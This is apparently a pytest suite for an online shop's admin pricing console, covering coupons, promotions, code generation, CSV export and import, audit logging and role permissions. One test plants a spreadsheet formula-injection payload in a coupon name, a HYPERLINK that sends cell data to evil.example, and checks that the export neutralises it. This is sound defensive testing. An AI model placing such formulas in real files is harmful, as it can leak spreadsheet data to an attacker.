"""The console's offers and prices page (issue 18, item 7): coupons, promotions and bundles shown
as the admin chat shows them; creating, switching, adding and generating codes through the same
use cases, on the audit trail under the person's id (front web); the codes' CSV is a download
recorded on the trail, with no cell a spreadsheet would run; roles that may not are refused."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import func, select

from quanyi.core.catalog.service import NewCoupon
from quanyi.core.models import Coupon, CouponCode, Promotion
from quanyi.core.sales.orders import Buyer, OrderRequest, checkout
from quanyi.core.services import Core
from quanyi.core.staff.roles import Role
from tests.console import OWNER, signed_in
from tests.helpers import product_with_stock
from tests.test_console_people import by_web, count, html, trail

OPERATOR, FINANCE, SUPPORT, READER = 7200, 7201, 7202, 7203


async def codes_of(core: Core, coupon_id: int) -> list[str]:
    async with core.db.read() as session:
        found = await session.scalars(select(CouponCode.code).where(CouponCode.coupon_id == coupon_id))
        return sorted(found.all())


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


async def test_the_page_shows_coupons_promotions_and_bundles_linking_to_their_product_pages(core: Core, tmp_path):
    await product_with_stock(core, tmp_path, sku="VIP", units=4)
    await core.catalog.create_coupon(
        NewCoupon({"name": "Spring", "off": "10%", "cap": "5.00", "min": "20.00", "skus": "VIP"}, code="SPRING10")
    )
    await core.catalog.add_promotion({"name": "Three for two", "units": "3", "pay": "2", "stacking": "exclusive"})
    await core.catalog.create_bundle("DUO", name="VIP duo", price="25.00", parts="VIP:2")
    client, _ = await signed_in(core, READER, Role.READ_ONLY)
    page = await html(await client.get("/admin/pricing"))
    assert "Spring" in page and "减 10%，最多 ¥5.00" in page and "商品 VIP" in page and "满 ¥20.00 可用" in page
    assert "3 件按 2 件计价" in page
    assert "Three for two" in page and 'href="/admin/products/DUO"' in page and "VIP ×2" in page
    assert 'action="/admin/pricing/coupons"' not in page  # a reader gets no form
    english = await client.get("/admin/pricing", headers={"Accept-Language": "en"})
    text = await html(english)
    assert "10% off, up to ¥5.00" in text and "3 for the price of 2" in text and "no coupons" in text


async def test_a_coupon_is_created_switched_given_codes_and_exported_on_the_trail(core: Core, tmp_path):
    await product_with_stock(core, tmp_path, sku="VIP", units=1)
    client, csrf = await signed_in(core, OPERATOR, Role.OPERATOR)
    form = {"csrf": csrf, "name": "Autumn", "off": "5.00", "min": "10.00", "uses": "100", "code": "AUTUMN5"}
    created = await client.post("/admin/pricing/coupons", form=form)
    assert created.status_code == 303
    async with core.db.read() as session:
        coupon = (await session.scalars(select(Coupon))).one()
    assert (coupon.name, coupon.value, coupon.min_spend, coupon.max_uses) == ("Autumn", 500, 1000, 100)
    assert await codes_of(core, coupon.id) == ["AUTUMN5"]
    off = await client.post(f"/admin/pricing/coupons/{coupon.id}/active", form={"csrf": csrf, "active": "0"})
    assert off.status_code == 303 and not (await core.catalog.coupon_detail(coupon.id)).coupon.active
    named = await client.post(f"/admin/pricing/coupons/{coupon.id}/codes", form={"csrf": csrf, "code": "EXTRA7"})
    assert named.status_code == 303
    made = await client.post(f"/admin/pricing/coupons/{coupon.id}/codes", form={"csrf": csrf, "generate": "3"})
    assert made.status_code == 200 and made.mimetype == "text/csv" and made.headers["Cache-Control"] == "no-store"
    assert "attachment" in made.headers["Content-Disposition"]
    generated = [row[0] for row in rows_of(await html(made))[1:]]
    assert len(generated) == 3 and set(generated) < set(await codes_of(core, coupon.id))
    exported = await client.post(f"/admin/pricing/coupons/{coupon.id}/export", form={"csrf": csrf})
    assert exported.status_code == 200 and exported.headers["Cache-Control"] == "no-store"
    assert sorted(row[0] for row in rows_of(await html(exported))[1:]) == await codes_of(core, coupon.id)
    records = by_web(await trail(core, "coupon"), OPERATOR)
    assert [r.action for r in records] == [
        "create coupon",
        "update coupon",
        "generate coupon codes",
        "export coupon codes",
    ]
    # Refused: a rule that is none, no name, a batch too large or of nothing, a code taken.
    for path, fields in (
        ("/admin/pricing/coupons", {"name": "Bad", "off": "lots"}),
        ("/admin/pricing/coupons", {"name": "", "off": "10%"}),
        ("/admin/pricing/coupons", {"name": "Big", "off": "10%", "generate": "20000"}),
        (f"/admin/pricing/coupons/{coupon.id}/codes", {"generate": "0"}),
        (f"/admin/pricing/coupons/{coupon.id}/codes", {"code": "AUTUMN5"}),
        (f"/admin/pricing/coupons/{coupon.id}/active", {"active": "yes"}),
        ("/admin/pricing/coupons/999/export", {}),
    ):
        refused = await client.post(path, form={"csrf": csrf, **fields})
        assert refused.status_code in (400, 404), (path, fields)
    assert await count(core, Coupon) == 1 and len(await codes_of(core, coupon.id)) == 5
    # A new coupon with a batch answers with the batch itself.
    batch = await client.post(
        "/admin/pricing/coupons", form={"csrf": csrf, "name": "Batch", "off": "10%", "generate": "2", "prefix": "B"}
    )
    assert batch.status_code == 200 and len(rows_of(await html(batch))) == 3


async def test_the_codes_csv_has_no_cell_a_spreadsheet_would_run(core: Core):
    made = await core.catalog.create_coupon(
        NewCoupon({"name": '=HYPERLINK("http://evil.example/?"&A1,"x")', "off": "10%"}, code="SUM-1")
    )
    client, csrf = await signed_in(core)
    exported = await client.post(f"/admin/pricing/coupons/{made.coupon.id}/export", form={"csrf": csrf})
    rows = rows_of(await html(exported))
    assert rows[1][0] == "SUM-1" and rows[1][4].startswith("'=HYPERLINK")
    assert not any(cell[:1] in "=+-@" for row in rows for cell in row if cell)
    assert by_web(await trail(core, "coupon"), OWNER)[-1].action == "export coupon codes"


async def test_a_promotion_is_created_and_switched_and_a_refused_one_changes_nothing(core: Core):
    client, csrf = await signed_in(core)
    created = await client.post(
        "/admin/pricing/promotions",
        form={"csrf": csrf, "name": "Big spend", "spend": "100.00", "off": "10%", "cap": "20.00", "stacking": "stack"},
    )
    assert created.status_code == 303
    page = await html(await client.get(created.headers["Location"]))
    assert "Big spend" in page and "促销已创建" in page
    async with core.db.read() as session:
        promotion = (await session.scalars(select(Promotion))).one()
    assert (promotion.threshold, promotion.value, promotion.cap, promotion.stacking) == (10000, 1000, 2000, "stack")
    off = await client.post(f"/admin/pricing/promotions/{promotion.id}/active", form={"csrf": csrf, "active": "0"})
    assert off.status_code == 303
    assert [p.active for p in await core.catalog.promotion_list()] == [False]
    for fields in (
        {"name": "", "spend": "10.00", "off": "1.00"},
        {"name": "Bad", "spend": "lots", "off": "1.00"},
        {"name": "Bad", "units": "3", "pay": "2", "stacking": "sometimes"},
    ):
        refused = await client.post("/admin/pricing/promotions", form={"csrf": csrf, **fields})
        assert refused.status_code == 400, fields
        assert 'data-testid="error"' in await html(refused)
    assert await count(core, Promotion) == 1
    assert [r.action for r in by_web(await trail(core, "promotion"))] == ["create promotion", "update promotion"]


@pytest.mark.parametrize("role,user_id", [(Role.FINANCE, FINANCE), (Role.READ_ONLY, READER)])
async def test_finance_and_read_only_may_look_but_not_change_and_support_may_not_look(core: Core, role, user_id):
    made = await core.catalog.create_coupon(NewCoupon({"name": "Spring", "off": "10%"}, code="SPRING10"))
    promotion = await core.catalog.add_promotion({"name": "P", "spend": "10.00", "off": "1.00"})
    client, csrf = await signed_in(core, user_id, role)
    assert (await client.get("/admin/pricing")).status_code == 200
    cid, pid = made.coupon.id, promotion.id
    for path, fields in (
        ("/admin/pricing/coupons", {"name": "X", "off": "10%"}),
        (f"/admin/pricing/coupons/{cid}/active", {"active": "0"}),
        (f"/admin/pricing/coupons/{cid}/codes", {"generate": "2"}),
        (f"/admin/pricing/coupons/{cid}/export", {}),
        ("/admin/pricing/promotions", {"name": "X", "spend": "1.00", "off": "1.00"}),
        (f"/admin/pricing/promotions/{pid}/active", {"active": "0"}),
    ):
        answer = await client.post(path, form={"csrf": csrf, **fields})
        assert answer.status_code == 403, path
        assert "SPRING10" not in await html(answer)
    async with core.db.read() as session:
        assert await session.scalar(select(func.count()).select_from(CouponCode)) == 1
    assert not [r for r in await trail(core, "coupon") if r.actor == f"operator:{user_id}"]
    support, _ = await signed_in(core, SUPPORT, Role.SUPPORT)
    assert (await support.get("/admin/pricing")).status_code == 403


async def test_a_coupon_s_page_shows_its_uses_and_imports_a_file_of_codes_all_or_nothing(core: Core, tmp_path):
    await product_with_stock(core, tmp_path, sku="VIP", units=2)
    made = await core.catalog.create_coupon(NewCoupon({"name": "Autumn", "off": "5.00"}, code="AUTUMN5"))
    placed = await checkout(
        core.db,
        core.payments,
        OrderRequest(
            buyer=Buyer(user_id=1001, chat_id=1001, language="zh"),
            sku="VIP",
            quantity=1,
            method="sandbox",
            reservation=core.reservation,
            max_quantity=core.settings.max_quantity,
            coupon="AUTUMN5",
        ),
    )
    client, csrf = await signed_in(core, OPERATOR, Role.OPERATOR)
    page = await html(await client.get(f"/admin/pricing/coupons/{made.coupon.id}"))
    assert placed.order.number in page and "AUTUMN5" in page and "¥5.00" in page and "已使用" in page
    url = f"/admin/upload/coupons/{made.coupon.id}"
    raw = {"X-CSRF-Token": csrf, "Content-Type": "application/octet-stream"}
    malformed = await client.post(f"{url}?filename=codes.csv", data=b"code\nGOOD01\nno good!\n", headers=raw)
    assert malformed.status_code == 400 and "3" in await html(malformed)
    not_text = await client.post(f"{url}?filename=codes.xlsx", data=b"GOOD01\n", headers=raw)
    assert not_text.status_code == 400
    assert await codes_of(core, made.coupon.id) == ["AUTUMN5"]
    imported = await client.post(f"{url}?filename=codes.csv", data=b"code\nGOOD01\nGOOD02\nAUTUMN5\n", headers=raw)
    assert imported.status_code == 200 and "已添加 2 个券码" in await html(imported)
    assert await codes_of(core, made.coupon.id) == ["AUTUMN5", "GOOD01", "GOOD02"]
    assert [r.action for r in by_web(await trail(core, "coupon"), OPERATOR)] == ["import coupon codes"]
    assert (await client.get("/admin/pricing/coupons/99999999999999999999")).status_code == 404
    assert (await client.get("/admin/pricing/coupons/999")).status_code == 404
    without_token = await client.post(f"{url}?filename=codes.csv", data=b"GOOD03\n", headers={})
    assert without_token.status_code == 403 and len(await codes_of(core, made.coupon.id)) == 3
    reader, reader_csrf = await signed_in(core, READER, Role.READ_ONLY)
    refused = await reader.post(f"{url}?filename=c.csv", data=b"GOOD04\n", headers={**raw, "X-CSRF-Token": reader_csrf})
    assert refused.status_code == 403 and len(await codes_of(core, made.coupon.id)) == 3
